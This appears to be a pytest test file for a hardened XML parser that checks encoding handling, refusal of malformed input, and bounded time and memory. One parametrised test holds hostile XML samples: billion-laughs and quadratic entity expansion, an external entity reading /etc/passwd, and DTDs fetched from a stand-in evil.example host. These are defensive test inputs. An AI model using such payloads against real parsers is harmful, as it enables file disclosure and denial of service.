"""XML that is read alike in any dress, and XML that is refused in bounded time and memory."""

from __future__ import annotations

import contextlib
import resource
import time
from typing import TYPE_CHECKING

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree

from adapters.transport import XmlRefusal, XmlRefused, charset_of, parse_xml

if TYPE_CHECKING:
    from pathlib import Path

NAME = "TRẦN THỊ MẪU"
MEBI = 1 << 20


def _refusal(data: bytes, **limits: int) -> XmlRefusal:
    with pytest.raises(XmlRefused) as caught:
        parse_xml(data, **limits)  # type: ignore[arg-type]
    return caught.value.refusal


@pytest.mark.parametrize(
    ("data", "charset"),
    [
        (f"<a>{NAME}</a>".encode(), None),
        (f"<a>{NAME}</a>".encode("utf-8-sig"), None),
        (f'<?xml version="1.0" encoding="UTF-8"?>\n<a>{NAME}</a>'.encode(), "utf-8"),
        (f"  \n<!-- c --><?p i?><a><!-- c -->{NAME}</a><!-- c -->".encode(), None),
        (f'<?xml version="1.0" encoding="UTF-16"?><a>{NAME}</a>'.encode("utf-16"), None),
        (b"\xfe\xff" + f"<a>{NAME}</a>".encode("utf-16-be"), "utf-16"),
        (f"<a>{NAME}</a>".encode("utf-16-le"), None),
        (f'<?xml version="1.0" encoding="utf-16"?><a>{NAME}</a>'.encode(), None),
        (f'<?xml version="1.0" encoding="ISO-8859-1"?><a>{NAME}</a>'.encode("utf-8-sig"), "ISO-8859-1"),
        (f'<?xml version="1.0" encoding="UTF-8"?><a>{NAME}</a>'.encode(), "ISO-8859-1"),
        (f'<?xml version="1.0" encoding="ISO-8859-1"?><a>{NAME}</a>'.encode(), "UTF-8"),
        (f"<a><![CDATA[{NAME}]]></a>".encode(), None),
    ],
)
def test_one_text_in_many_dresses(data: bytes, charset: str | None) -> None:
    """A mark, a header and a declaration, agreeing or not, give the same text."""
    assert (parse_xml(data, charset=charset).text or "").strip() == NAME


@pytest.mark.parametrize(
    ("data", "charset"),
    [
        (b'<?xml version="1.0" encoding="ISO-8859-1"?><a>caf\xe9</a>', None),
        (b"<a>caf\xe9</a>", "iso-8859-1"),
        (b"<?xml version='1.0' encoding='windows-1252'?><a>caf\xe9</a>", None),
        (b'<?xml version="1.0" encoding="UTF-8"?><a>caf\xe9</a>', "latin1"),
    ],
)
def test_western_text(data: bytes, charset: str | None) -> None:
    """ISO-8859-1 is read as such, by header or by declaration."""
    assert parse_xml(data, charset=charset).text == "café"


@pytest.mark.parametrize("label", ["utf-7", "rot13", "zip", "base64", "klingon", "unicode_escape"])
def test_odd_encodings_are_refused(label: str) -> None:
    """Only a few encodings are known; none that is a trick."""
    assert _refusal(f'<?xml version="1.0" encoding="{label}"?><a/>'.encode()) is XmlRefusal.CHARSET
    with pytest.raises(XmlRefused):
        parse_xml(b"<a/>", charset=label)


def test_text_that_is_not_in_its_encoding() -> None:
    """Bytes outside the encoding are refused, not guessed at."""
    assert _refusal(b"<a>\xff</a>") is XmlRefusal.CHARSET
    assert _refusal(b"\xff\xfea") is XmlRefusal.CHARSET


@pytest.mark.parametrize("data", [b"", b" \r\n", b"\xef\xbb\xbf", b"<!-- only a comment -->", b"<?xml version='1.0'?>"])
def test_nothing(data: bytes) -> None:
    """Nothing at all, or nothing but trimmings, is no document."""
    assert _refusal(data) in {XmlRefusal.EMPTY, XmlRefusal.MALFORMED}


@pytest.mark.parametrize(
    "data",
    [
        b"plain",
        b"<a>",
        b"<a><b></a></b>",
        b"<a>&nope;</a>",
        b"<a b=c/>",
        b"<a/><b/>",
        b"<!-- <a/>",
        b"<a>\x00</a>",
        b"<",
    ],
)
def test_what_is_not_well_formed(data: bytes) -> None:
    """Broken XML is refused; nothing is mended."""
    assert _refusal(data) is XmlRefusal.MALFORMED


def _laughs(depth: int = 9) -> bytes:
    entities = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, depth))
    return f'<!DOCTYPE a [<!ENTITY l0 "ha">{entities}]><a>&l{depth - 1};</a>'.encode()


@pytest.mark.parametrize(
    "data",
    [
        _laughs(),
        b'<?xml version="1.0"?><!-- c --> <!DOCTYPE a [<!ENTITY x "'
        + b"y" * MEBI
        + b'">]><a>'
        + b"&x;" * 9999
        + b"</a>",
        b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        b'<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><a/>',
        b'<!DOCTYPE a SYSTEM "http://evil.example/x.dtd"><a/>',
        b'<!DOCTYPE a [<!ATTLIST a b CDATA "' + b"x" * MEBI + b'">]><a/>',
        b"<!DOCTYPE html><html><body>Bad gateway</body></html>",
        '<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'.encode("utf-16"),
        b"\xef\xbb\xbf<!DOCTYPE a><a/>",
    ],
    ids=["laughs", "blow-up", "file", "parameter", "external", "attribute list", "html", "utf-16", "marked"],
)
def test_no_document_type_is_read(data: bytes) -> None:
    """A DTD is refused where it begins, in any encoding, whatever it would have done."""
    begin = time.process_time()
    assert _refusal(data) is XmlRefusal.DOCTYPE
    assert time.process_time() - begin < 2


def test_a_document_type_that_is_only_quoted() -> None:
    """The same signs inside CDATA or a comment declare nothing."""
    assert parse_xml(b"<a><![CDATA[<!DOCTYPE html><html/>]]></a>").text == "<!DOCTYPE html><html/>"
    assert parse_xml(b"<!-- <!DOCTYPE a> --><a/>").tag == "a"


def test_nothing_external_is_fetched(tmp_path: Path) -> None:
    """Inclusions are left as they stand."""
    secret = tmp_path / "secret.xml"
    secret.write_text("<s>secret</s>")
    data = f'<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{secret}"/></a>'.encode()
    assert b"secret</s>" not in etree.tostring(parse_xml(data))


@pytest.mark.parametrize(
    ("data", "refusal"),
    [
        (b"<a>" * 65 + b"</a>" * 65, XmlRefusal.DEPTH),
        (b"<a>" * 300 + b"</a>" * 300, XmlRefusal.DEPTH),
        (b"<a>" * 1_000_000 + b"</a>" * 1_000_000, XmlRefusal.DEPTH),
        (b"<a>" * 1_000_000, XmlRefusal.DEPTH),
        (b"<a>" + b"<b/>" * 1_900_000 + b"</a>", XmlRefusal.ELEMENTS),
        (b"<a>" + b'<b c="d"/>' * 30_000 + b"<b/>" * 30_000 + b"</a>", XmlRefusal.ELEMENTS),
        (b"<a " + b" ".join(b'x%d="y"' % i for i in range(60_000)) + b"/>", XmlRefusal.ATTRIBUTES),
        (b'<a b="' + b"x" * 5 * MEBI + b'"/>', XmlRefusal.ATTRIBUTES),
        (b"<a><b c='" + b"x" * 70_000 + b"'/></a>", XmlRefusal.ATTRIBUTES),
        (b"<a>" + b"x" * 100 * MEBI + b"</a>", XmlRefusal.BYTES),
    ],
    ids=["65 deep", "300 deep", "1e6 deep", "1e6 deep, open", "2e6", "6e4", "attributes", "5 MB", "70 kB", "100 MB"],
)
def test_too_much(data: bytes, refusal: XmlRefusal) -> None:
    """Too deep, too many, too long: refused soon, and without taking much memory."""
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    begin = time.process_time()
    assert _refusal(data) is refusal
    assert time.process_time() - begin < 10
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 120_000


def test_limits_can_be_tightened() -> None:
    """Each limit is the caller's; at the limit itself a document passes."""
    assert parse_xml(b"<a><b/></a>", max_depth=2, max_elements=9, max_bytes=11).tag == "a"
    assert _refusal(b"<a><b/></a>", max_bytes=10) is XmlRefusal.BYTES
    assert _refusal(b"<a><b/></a>", max_depth=1) is XmlRefusal.DEPTH
    assert _refusal(b"<a><b/><b/></a>", max_elements=2) is XmlRefusal.ELEMENTS


def test_signs_in_cdata_are_not_elements() -> None:
    """A text full of angle brackets is counted well before it is refused."""
    assert parse_xml(b"<a><![CDATA[" + b"<=" * 60_000 + b"]]></a>").text == "<=" * 60_000


def test_a_refusal_quotes_nothing() -> None:
    """What the library would have quoted is not in the message, nor hidden behind it."""
    with pytest.raises(XmlRefused) as caught:
        parse_xml(f"<a><Ten {NAME}></a>".encode())
    assert caught.value.__cause__ is None
    assert caught.value.__suppress_context__
    assert "MẪU" not in str(caught.value)


@given(st.binary(max_size=300))
def test_any_bytes_are_read_or_refused(data: bytes) -> None:
    """No input does anything else than give a tree or be refused."""
    with contextlib.suppress(XmlRefused):
        assert parse_xml(data) is not None


@pytest.mark.parametrize(
    ("content_type", "charset"),
    [
        (None, None),
        ("text/xml", None),
        ("text/xml; charset=utf-8", "utf-8"),
        ('text/xml;CHARSET="ISO-8859-1"; x=y', "ISO-8859-1"),
        ("text/xml; charset=", None),
    ],
)
def test_charset_of_a_header(content_type: str | None, charset: str | None) -> None:
    """The parameter is found however it is written."""
    assert charset_of(content_type) == charset
